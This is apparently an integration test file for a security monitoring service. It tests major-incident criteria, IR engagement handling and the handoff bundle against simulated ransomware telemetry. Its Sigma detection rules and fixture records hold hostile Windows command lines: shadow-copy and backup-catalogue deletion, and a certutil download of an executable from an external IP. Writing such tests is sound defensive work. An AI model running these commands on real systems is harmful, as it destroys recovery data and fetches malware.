//! Major incidents (PRODUCT.md §11) from telemetry ingested and detected
//! as in production: which incidents the criteria flag, what they notify
//! and open, analysts' overrides, and the IR handoff bundle (its manifest
//! verified, its STIX validated by the reference validator, its timeline
//! in time order).

use std::collections::BTreeMap;
use std::io::Read;
use std::sync::Arc;

use sha2::{Digest, Sha256};
use vigil_core::identity::Principal;
use vigil_core::major::{Criterion, IrStatus};
use vigil_core::notification::{DeliveryStatus, NotificationKind};
use vigil_core::rules::RuleFile;
use vigil_core::tenant::{
    Channel, ChannelKind, Contact, ContactKind, IrProvider, Lifecycle, Secret, SettingChange,
    WebhookFormat,
};
use vigil_service::{At, FixedClock, IncidentFilter, IncidentRecord, Intake, Record, Service};
use vigil_store::{SqliteStore, Store};

/// Inline rules: shadow-copy deletion, backup-catalogue deletion, shadow
/// copy listing, a commodity downloader, and a connection to a C2 port.
const RULES: [(&str, &str); 5] = [
    (
        "c2.yml",
        "title: Connection To Metasploit Port
id: 0b0f6a40-1c2d-4e5f-8a9b-000000000005
level: high
tags: [attack.command_and_control]
logsource: {product: windows, category: network_connection}
detection:
    selection:
        DestinationPort: 4444
    condition: selection
",
    ),
    (
        "shadow_delete.yml",
        "title: Shadow Copies Deleted
id: 0b0f6a40-1c2d-4e5f-8a9b-000000000001
level: critical
tags: [attack.impact, attack.t1490]
logsource: {product: windows, category: process_creation}
detection:
    selection:
        Image|endswith: '\\vssadmin.exe'
        CommandLine|contains|all: [delete, shadows]
    condition: selection
",
    ),
    (
        "catalog_delete.yml",
        "title: Backup Catalog Deleted
id: 0b0f6a40-1c2d-4e5f-8a9b-000000000002
level: high
tags: [attack.impact, attack.t1490]
logsource: {product: windows, category: process_creation}
detection:
    selection:
        Image|endswith: '\\wbadmin.exe'
        CommandLine|contains|all: [delete, catalog]
    condition: selection
",
    ),
    (
        "shadow_list.yml",
        "title: Shadow Copies Listed
id: 0b0f6a40-1c2d-4e5f-8a9b-000000000003
level: low
tags: [attack.discovery]
logsource: {product: windows, category: process_creation}
detection:
    selection:
        Image|endswith: '\\vssadmin.exe'
        CommandLine|contains: list shadows
    condition: selection
",
    ),
    (
        "certutil.yml",
        "title: Certutil Download
id: 0b0f6a40-1c2d-4e5f-8a9b-000000000004
level: high
tags: [attack.command_and_control, attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
    selection:
        Image|endswith: '\\certutil.exe'
        CommandLine|contains: urlcache
    condition: selection
",
    ),
];

/// A Sysmon event (evtx_dump's shape) on `host` at `time` with `data`.
fn sysmon(id: u32, host: &str, time: &str, data: &str) -> Record {
    Record {
        at: At::Line(1),
        bytes: format!(
            r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"Microsoft-Windows-Sysmon"}}}},"EventID":{id},"TimeCreated":{{"#attributes":{{"SystemTime":"{time}"}}}},"EventRecordID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"{host}"}},"EventData":{{{data}}}}}}}"##
        )
        .into_bytes(),
    }
}

fn process(host: &str, time: &str, user: &str, image: &str, cmd: &str) -> Record {
    let image = image.replace('\\', "\\\\");
    let cmd = cmd.replace('\\', "\\\\").replace('"', "\\\"");
    let user = user.replace('\\', "\\\\");
    sysmon(
        1,
        host,
        time,
        &format!(
            r#""ProcessGuid":"{{{time}-{host}}}","ProcessId":"4242","Image":"{image}","CommandLine":"{cmd}","User":"{user}","ParentImage":"C:\\Windows\\System32\\cmd.exe""#
        ),
    )
}

fn file_written(host: &str, time: &str, path: &str) -> Record {
    sysmon(
        11,
        host,
        time,
        &format!(
            r#""Image":"C:\\Users\\Public\\enc.exe","TargetFilename":"{}""#,
            path.replace('\\', "\\\\")
        ),
    )
}

struct World {
    svc: Service,
    op: Principal,
}

/// A service at noon with tenant `acme` in `monitoring`, with an incident
/// contact, an email and a webhook channel, an IR provider reached by
/// email, and the inline rules.
async fn world() -> World {
    let store = SqliteStore::open_temporary().await.expect("store");
    store.migrate().await.expect("migrate");
    let clock = Arc::new(FixedClock::new(
        "2026-11-27T12:00:00Z".parse().expect("time"),
    ));
    let svc = Service::new(Arc::new(store), clock);
    let op = Principal::Operator("test".into());
    svc.create_tenant(&op, "acme", "Acme")
        .await
        .expect("tenant");
    svc.update_tenant(
        &op,
        "acme",
        &[
            SettingChange::AddContact(Contact {
                kind: ContactKind::Incident,
                name: "Jane Doe".into(),
                email: Some("jane@acme.example".into()),
                phone: None,
                priority: 1,
            }),
            SettingChange::AddChannel(Channel {
                name: "soc-mail".into(),
                kind: ChannelKind::Email {
                    to: vec!["soc@acme.example".into()],
                },
            }),
            SettingChange::AddChannel(Channel {
                name: "soar".into(),
                kind: ChannelKind::Webhook {
                    url: "https://soar.acme.example/hooks/vigil".into(),
                    format: WebhookFormat::Generic,
                    secret: Secret::new("a-very-long-signing-key"),
                },
            }),
            SettingChange::IrProvider(IrProvider {
                name: "Rapid IR".into(),
                contact: "hotline@rapid-ir.example".into(),
                engagement: "retainer RIR-42".into(),
            }),
        ],
    )
    .await
    .expect("settings");
    svc.transition_tenant(
        &op,
        "acme",
        Lifecycle::Monitoring,
        Some("readiness is not under test here"),
    )
    .await
    .expect("monitoring");
    svc.add_rule_pack(
        &op,
        "test",
        "inline",
        RULES
            .iter()
            .map(|(path, yaml)| RuleFile {
                pack: String::new(),
                path: (*path).into(),
                yaml: (*yaml).into(),
            })
            .collect(),
    )
    .await
    .expect("pack");
    World { svc, op }
}

impl World {
    async fn ingest(&self, records: Vec<Record>) {
        self.svc
            .ingest(
                &self.op,
                Some("acme"),
                Intake {
                    source: "test".into(),
                    records,
                    ..Default::default()
                },
            )
            .await
            .expect("ingest");
        let (engine, _) = self.svc.detection_engine().await.expect("engine");
        self.svc.drain_detection(&engine).await.expect("detect");
    }

    async fn incidents(&self) -> Vec<IncidentRecord> {
        self.svc
            .list_incidents(
                &self.op,
                "acme",
                IncidentFilter {
                    limit: 100,
                    ..Default::default()
                },
            )
            .await
            .expect("incidents")
    }
}

/// Ransomware on five workstations by one account: shadow copies and the
/// backup catalogue deleted, a ransom note written on each.
fn ransomware_records() -> Vec<Record> {
    let mut records = Vec::new();
    for n in 1..=5 {
        let host = format!("ws{n}.acme.local");
        let t = |m: u32| format!("2026-11-27T08:{:02}:{:02}.000000Z", n * 5 + m, n);
        records.push(process(
            &host,
            &t(0),
            "ACME\\svc-deploy",
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
        ));
        records.push(process(
            &host,
            &t(1),
            "ACME\\svc-deploy",
            "C:\\Windows\\System32\\wbadmin.exe",
            "wbadmin delete catalog -quiet",
        ));
        records.push(file_written(
            &host,
            &t(2),
            "C:\\Users\\Public\\Desktop\\HOW_TO_DECRYPT_FILES.txt",
        ));
    }
    records
}

fn criteria(r: &IncidentRecord) -> Vec<Criterion> {
    r.major
        .as_ref()
        .map(|m| m.criteria.iter().map(|c| c.criterion).collect())
        .unwrap_or_default()
}

#[tokio::test]
async fn a_ransomware_sequence_over_five_hosts_is_flagged_major_by_the_right_criteria() {
    let w = world().await;
    w.ingest(ransomware_records()).await;
    let incidents = w.incidents().await;
    assert_eq!(incidents.len(), 1, "one account links the five hosts");
    let r = &incidents[0];
    let state = r.major.as_ref().expect("evaluated");
    assert!(state.major && state.ir_recommended);
    assert_eq!(
        criteria(r),
        vec![
            Criterion::Ransomware,
            Criterion::ManyHosts,
            Criterion::LogAndBackupDestruction
        ]
    );
    let ransomware = &state.criteria[0].evidence;
    assert_eq!(ransomware.hosts.len(), 5, "{ransomware:?}");
    assert_eq!(ransomware.counts["shadow_copy_deletions"], 5);
    assert_eq!(ransomware.counts["ransom_notes"], 5);
    let many = &state.criteria[1].evidence;
    assert_eq!(many.counts["hosts"], 5);
    assert!(!many.alerts.is_empty());
    let engagement = r.ir_engagement.as_ref().expect("engagement opened");
    assert_eq!(engagement.status, IrStatus::Requested);
    assert_eq!(engagement.provider.as_deref(), Some("Rapid IR"));

    // Activity log and audit name the criteria.
    let view = w
        .svc
        .incident(&w.op, "acme", r.incident.id)
        .await
        .expect("view");
    assert!(
        view.activity
            .iter()
            .any(|a| a.action == "major_criterion" && a.details.starts_with("ransomware")),
        "{:?}",
        view.activity
    );
    let audit = w
        .svc
        .audit_log(&w.op, Some("acme"), 0, 500)
        .await
        .expect("audit");
    assert!(audit.iter().any(|a| a.action == "incident.major"));

    // A second evaluation finds nothing new: no second notification.
    w.svc
        .evaluate_major_now(&w.op, "acme", r.incident.id)
        .await
        .expect("evaluate");
    let notes = w
        .svc
        .notifications(&w.op, "acme", None, 50)
        .await
        .expect("notifications");
    let major: Vec<_> = notes
        .iter()
        .filter(|(n, _)| n.kind == NotificationKind::MajorIncident)
        .collect();
    assert_eq!(major.len(), 1);
}

#[tokio::test]
async fn a_monitoring_tenants_major_incident_deliveries_are_pending_and_reach_the_ir_provider() {
    let w = world().await;
    w.ingest(ransomware_records()).await;
    let notes = w
        .svc
        .notifications(&w.op, "acme", None, 50)
        .await
        .expect("notifications");
    let (n, deliveries) = notes
        .iter()
        .find(|(n, _)| n.kind == NotificationKind::MajorIncident)
        .expect("a major-incident notification");
    assert!(
        n.subject.starts_with("Major incident at Acme"),
        "{}",
        n.subject
    );
    assert!(n.body.contains("outside the scope"), "{}", n.body);
    let mut to: Vec<String> = deliveries
        .iter()
        .map(|d| d.destination.to_string())
        .collect();
    to.sort();
    assert!(
        deliveries
            .iter()
            .all(|d| d.status == DeliveryStatus::Pending),
        "never held by the monitoring period: {deliveries:?}"
    );
    for who in [
        "jane@acme.example",
        "soc@acme.example",
        "hotline@rapid-ir.example",
        "soar",
    ] {
        assert!(to.iter().any(|d| d.contains(who)), "{who} in {to:?}");
    }
}

#[tokio::test]
async fn a_lone_admin_listing_shadow_copies_is_not_major() {
    let w = world().await;
    w.ingest(vec![process(
        "fs1.acme.local",
        "2026-11-27T09:00:00.000000Z",
        "ACME\\Administrator",
        "C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin list shadows",
    )])
    .await;
    let incidents = w.incidents().await;
    assert_eq!(
        incidents.len(),
        1,
        "the listing is an alert and an incident"
    );
    assert!(criteria(&incidents[0]).is_empty());
    assert!(!incidents[0].major.as_ref().is_some_and(|m| m.major));
    assert!(incidents[0].ir_engagement.is_none());
}

#[tokio::test]
async fn a_single_host_commodity_malware_incident_is_not_major() {
    let w = world().await;
    w.ingest(vec![
        process(
            "ws9.acme.local",
            "2026-11-27T09:00:00.000000Z",
            "ACME\\bob",
            "C:\\Windows\\System32\\certutil.exe",
            "certutil -urlcache -split -f http://203.0.113.7/x.exe C:\\Users\\bob\\x.exe",
        ),
        process(
            "ws9.acme.local",
            "2026-11-27T09:01:00.000000Z",
            "ACME\\bob",
            "C:\\Windows\\System32\\certutil.exe",
            "certutil -urlcache -f http://203.0.113.7/y.dll C:\\Users\\bob\\y.dll",
        ),
        file_written(
            "ws9.acme.local",
            "2026-11-27T09:02:00.000000Z",
            "C:\\Users\\bob\\AppData\\Roaming\\x.exe",
        ),
    ])
    .await;
    let incidents = w.incidents().await;
    assert_eq!(incidents.len(), 1);
    assert!(
        criteria(&incidents[0]).is_empty(),
        "{:?}",
        incidents[0].major
    );
    let notes = w
        .svc
        .notifications(&w.op, "acme", None, 50)
        .await
        .expect("notifications");
    assert!(
        notes
            .iter()
            .all(|(n, _)| n.kind != NotificationKind::MajorIncident)
    );
}

#[tokio::test]
async fn analysts_raise_and_clear_the_flag_with_a_reason_and_move_the_engagement_on() {
    let w = world().await;
    w.ingest(vec![process(
        "fs1.acme.local",
        "2026-11-27T09:00:00.000000Z",
        "ACME\\Administrator",
        "C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin list shadows",
    )])
    .await;
    let id = w.incidents().await[0].incident.id;
    let blank = w
        .svc
        .set_major(&w.op, "acme", id, true, "  ")
        .await
        .expect_err("a reason is required");
    assert!(blank.to_string().contains("reason"), "{blank}");
    let no_engagement = w
        .svc
        .update_ir_engagement(&w.op, "acme", id, Some(IrStatus::Engaged), None)
        .await
        .expect_err("not major yet");
    assert!(matches!(
        no_engagement,
        vigil_service::ServiceError::Refused(_)
    ));
    let view = w
        .svc
        .set_major(&w.op, "acme", id, true, "customer reports encrypted shares")
        .await
        .expect("raised");
    let state = view.record.major.as_ref().expect("state");
    assert!(state.major && state.ir_recommended);
    assert_eq!(
        state.reason.as_deref(),
        Some("customer reports encrypted shares")
    );
    let again = w
        .svc
        .set_major(&w.op, "acme", id, true, "again")
        .await
        .expect_err("already major");
    assert!(again.to_string().contains("already major"), "{again}");
    let view = w
        .svc
        .update_ir_engagement(
            &w.op,
            "acme",
            id,
            Some(IrStatus::Engaged),
            Some("Rapid IR on site, case 7781"),
        )
        .await
        .expect("engaged");
    let e = view.record.ir_engagement.as_ref().expect("engagement");
    assert_eq!(e.status, IrStatus::Engaged);
    assert!(e.engaged_at.is_some());
    assert_eq!(e.notes.len(), 1);
    let back = w
        .svc
        .update_ir_engagement(&w.op, "acme", id, Some(IrStatus::Requested), None)
        .await
        .expect_err("no way back");
    assert!(
        back.to_string()
            .contains("from engaged it may move to closed"),
        "{back}"
    );
    let view = w
        .svc
        .set_major(&w.op, "acme", id, false, "false alarm: restore test")
        .await
        .expect("cleared");
    let state = view.record.major.as_ref().expect("state");
    assert!(!state.major && !state.ir_recommended);
    let actions: Vec<&str> = view.activity.iter().map(|a| a.action.as_str()).collect();
    assert!(actions.contains(&"major_raised") && actions.contains(&"major_cleared"));
    let audit = w
        .svc
        .audit_log(&w.op, Some("acme"), 0, 500)
        .await
        .expect("audit");
    let major_audits = audit
        .iter()
        .filter(|a| a.action == "incident.major")
        .count();
    assert_eq!(major_audits, 2);
    assert!(audit.iter().any(|a| a.action == "incident.ir_engagement"));
}

/// The files of a zip archive, by name.
fn unzip(bytes: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip archive");
    let mut out = BTreeMap::new();
    for i in 0..archive.len() {
        let mut f = archive.by_index(i).expect("entry");
        let mut data = Vec::new();
        f.read_to_end(&mut data).expect("read");
        out.insert(f.name().expect("a UTF-8 name").into_owned(), data);
    }
    out
}

/// Validate a STIX 2.1 document with the OASIS reference validator
/// (`stix2-validator`, which carries the STIX 2.1 JSON schemas), strict.
/// Skips when it is absent, unless VIGIL_REQUIRE_TOOLS is set.
fn validate_stix(json: &[u8]) -> bool {
    let present = std::process::Command::new("python3")
        .args(["-c", "import stix2validator"])
        .status()
        .is_ok_and(|s| s.success());
    if !present {
        assert!(
            std::env::var_os("VIGIL_REQUIRE_TOOLS").is_none(),
            "stix2-validator is required: python3 -m pip install stix2-validator"
        );
        eprintln!(
            "skipped STIX validation: stix2-validator is not installed (pip install stix2-validator)"
        );
        return false;
    }
    let dir = std::env::temp_dir().join(format!("vigil-stix-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let path = dir.join("indicators.stix.json");
    std::fs::write(&path, json).expect("write");
    let out = std::process::Command::new("python3")
        .args([
            "-c",
            "import sys, stix2validator as v\n\
             r = v.validate_file(sys.argv[1], v.ValidationOptions(version='2.1', strict=True))\n\
             v.print_results(r)\n\
             sys.exit(0 if r.is_valid else 1)",
        ])
        .arg(&path)
        .output()
        .expect("run the validator");
    let _ = std::fs::remove_dir_all(&dir);
    assert!(
        out.status.success(),
        "the STIX bundle is invalid:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    true
}

#[tokio::test]
async fn the_ir_bundle_verifies_against_its_manifest_validates_as_stix_and_keeps_time_order() {
    let w = world().await;
    let mut records = ransomware_records();
    // A connection to a public address on a C2 port: an IP indicator, and
    // the encryptor's hash.
    records.push(sysmon(
        3,
        "ws1.acme.local",
        "2026-11-27T08:30:00.000000Z",
        r#""Image":"C:\\Users\\Public\\enc.exe","User":"ACME\\svc-deploy","Protocol":"tcp","SourceIp":"10.0.0.21","SourcePort":"50112","DestinationIp":"203.0.113.7","DestinationPort":"4444""#,
    ));
    records.push(sysmon(
        1,
        "ws1.acme.local",
        "2026-11-27T08:31:00.000000Z",
        r#""Image":"C:\\Windows\\System32\\vssadmin.exe","CommandLine":"vssadmin delete shadows /all","User":"ACME\\svc-deploy","Hashes":"SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08""#,
    ));
    w.ingest(records).await;
    let id = w.incidents().await[0].incident.id;
    let bundle = w.svc.ir_bundle(&w.op, "acme", id).await.expect("bundle");
    let files = unzip(&bundle.bytes);
    let names: Vec<&str> = files.keys().map(String::as_str).collect();
    let mut expected: Vec<&str> = vigil_service::BUNDLE_FILES.to_vec();
    expected.sort_unstable();
    assert_eq!(names, expected);

    // Every file but the manifest is in it once, with a hash that verifies.
    let manifest = String::from_utf8(files["MANIFEST.sha256"].clone()).expect("utf-8");
    let mut listed = Vec::new();
    for line in manifest.lines() {
        let (sum, name) = line.split_once("  ").expect("sha256sum format");
        let actual: String = Sha256::digest(&files[name])
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(sum, actual, "{name}");
        listed.push(name);
    }
    listed.sort_unstable();
    let mut others: Vec<&str> = names
        .iter()
        .copied()
        .filter(|n| *n != "MANIFEST.sha256")
        .collect();
    others.sort_unstable();
    assert_eq!(listed, others);

    // The STIX bundle: well-formed here, valid for the reference validator.
    let stix: serde_json::Value =
        serde_json::from_slice(&files["indicators.stix.json"]).expect("json");
    assert_eq!(stix["type"], "bundle");
    let objects = stix["objects"].as_array().expect("objects");
    let kinds: Vec<&str> = objects.iter().filter_map(|o| o["type"].as_str()).collect();
    for k in [
        "identity",
        "incident",
        "indicator",
        "relationship",
        "report",
    ] {
        assert!(kinds.contains(&k), "{k} in {kinds:?}");
    }
    assert!(objects.iter().all(|o| o["spec_version"] == "2.1"));
    let patterns: Vec<&str> = objects
        .iter()
        .filter_map(|o| o["pattern"].as_str())
        .collect();
    for p in [
        "[ipv4-addr:value = '203.0.113.7']",
        "[file:hashes.'SHA-256' = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']",
    ] {
        assert!(patterns.contains(&p), "{p} in {patterns:?}");
    }
    assert!(
        !patterns.iter().any(|p| p.contains("10.0.0.21")),
        "internal addresses are assets, not indicators"
    );
    let assets = String::from_utf8(files["assets.csv"].clone()).expect("utf-8");
    assert!(assets.contains("device,ws3.acme.local"), "{assets}");
    validate_stix(&files["indicators.stix.json"]);

    // The timeline holds the incident's events in time order.
    let timeline = String::from_utf8(files["timeline.csv"].clone()).expect("utf-8");
    let times: Vec<&str> = timeline
        .lines()
        .skip(1)
        .map(|l| l.split(',').next().expect("time"))
        .collect();
    assert!(times.len() >= 16, "{timeline}");
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "{timeline}");
    assert!(timeline.contains("HOW_TO_DECRYPT_FILES.txt"));

    // Evidence is JSON lines; the summary names the criteria; the HTML is
    // escaped; generating the bundle was audited.
    let evidence = String::from_utf8(files["evidence.jsonl"].clone()).expect("utf-8");
    assert!(evidence.lines().count() >= 10);
    for line in evidence.lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("a JSON line");
        assert!(v["record"]["Event"].is_object());
    }
    let summary: serde_json::Value = serde_json::from_slice(&files["summary.json"]).expect("json");
    assert_eq!(summary["incident"]["major"], true);
    assert_eq!(
        summary["incident"]["major_criteria"][0]["criterion"],
        "ransomware"
    );
    let html = String::from_utf8(files["summary.html"].clone()).expect("utf-8");
    assert!(html.contains("Major incident"));
    assert!(!html.contains("<script"));
    let audit_lines = String::from_utf8(files["audit.jsonl"].clone()).expect("utf-8");
    assert!(audit_lines.contains("incident.major"));
    let audit = w
        .svc
        .audit_log(&w.op, Some("acme"), 0, 500)
        .await
        .expect("audit");
    let generated = audit
        .iter()
        .find(|a| a.action == "incident.ir_bundle")
        .expect("generating the bundle is audited");
    assert_eq!(generated.target, format!("incident:{id}"));
}

/// The named SigmaHQ rules and EVTX attack samples of the corpus, ingested
/// for a fresh tenant `acme`.
async fn corpus_world(corpus: &std::path::Path, rules: &[&str], samples: &[&str]) -> World {
    let w = world().await;
    let files = rules
        .iter()
        .map(|r| RuleFile {
            pack: String::new(),
            path: (*r).into(),
            yaml: std::fs::read_to_string(corpus.join("sigma/rules/windows").join(r))
                .expect("rule"),
        })
        .collect();
    w.svc
        .add_rule_pack(&w.op, "sigmahq-subset", "corpus", files)
        .await
        .expect("pack");
    let mut records = Vec::new();
    for s in samples {
        vigil_formats::read_records(
            &corpus.join("evtx-attack-samples").join(s),
            vigil_formats::FileKind::Evtx,
            1,
            &mut |r| {
                records.push(Record {
                    at: At::Text(r.at),
                    bytes: r.json,
                })
            },
            &mut |e| panic!("{e:?}"),
        );
    }
    w.ingest(records).await;
    w
}

#[tokio::test]
async fn the_dcsync_sample_is_major_as_directory_replication_abuse() {
    let corpus = vigil_testkit::corpus_or_skip!();
    let w = corpus_world(
        &corpus,
        &["builtin/security/win_security_ad_replication_non_machine_account.yml"],
        &["Credential Access/CA_DCSync_4662.evtx"],
    )
    .await;
    let incidents = w.incidents().await;
    let dcsync = incidents
        .iter()
        .find(|r| criteria(r).contains(&Criterion::DomainCredentialTheft))
        .unwrap_or_else(|| panic!("DCSync flagged: {incidents:?}"));
    let state = dcsync.major.as_ref().expect("state");
    let fired = state
        .criteria
        .iter()
        .find(|c| c.criterion == Criterion::DomainCredentialTheft)
        .expect("criterion");
    assert!(fired.evidence.counts["replication_requests"] >= 1);
    assert!(!fired.evidence.events.is_empty());
    assert!(!fired.evidence.users.is_empty(), "{fired:?}");
}

#[tokio::test]
async fn one_cleared_security_log_alone_is_not_major() {
    let corpus = vigil_testkit::corpus_or_skip!();
    let w = corpus_world(
        &corpus,
        &["builtin/security/win_security_audit_log_cleared.yml"],
        &["Defense Evasion/DE_1102_security_log_cleared.evtx"],
    )
    .await;
    let incidents = w.incidents().await;
    assert!(!incidents.is_empty(), "the clearing is an alert");
    for r in &incidents {
        assert!(criteria(r).is_empty(), "{:?}", r.major);
    }
}

#[tokio::test]
async fn events_still_waiting_for_detection_count_toward_the_criteria() {
    let w = world().await;
    w.ingest(vec![process(
        "ws1.acme.local",
        "2026-11-27T08:00:00.000000Z",
        "ACME\\svc-deploy",
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -urlcache -split -f http://203.0.113.7/x.exe C:\\Users\\Public\\x.exe",
    )])
    .await;
    let incidents = w.incidents().await;
    assert_eq!(incidents.len(), 1);
    let id = incidents[0].incident.id;
    assert!(criteria(&incidents[0]).is_empty());
    // Shadow copies deleted and a ransom note on the same host: committed,
    // not yet taken by detection.
    let waiting: Vec<Record> = ransomware_records()
        .into_iter()
        .filter(|r| String::from_utf8_lossy(&r.bytes).contains("ws1.acme.local"))
        .collect();
    assert_eq!(waiting.len(), 3);
    w.svc
        .ingest(
            &w.op,
            Some("acme"),
            Intake {
                source: "test".into(),
                records: waiting,
                ..Default::default()
            },
        )
        .await
        .expect("ingest");
    let view = w
        .svc
        .evaluate_major_now(&w.op, "acme", id)
        .await
        .expect("evaluate");
    let state = view.record.major.as_ref().expect("evaluated");
    let ransomware = state
        .criteria
        .iter()
        .find(|c| c.criterion == Criterion::Ransomware)
        .expect("the waiting events give the ransomware criterion");
    assert_eq!(ransomware.evidence.counts["shadow_copy_deletions"], 1);
    assert_eq!(ransomware.evidence.counts["ransom_notes"], 1);
}
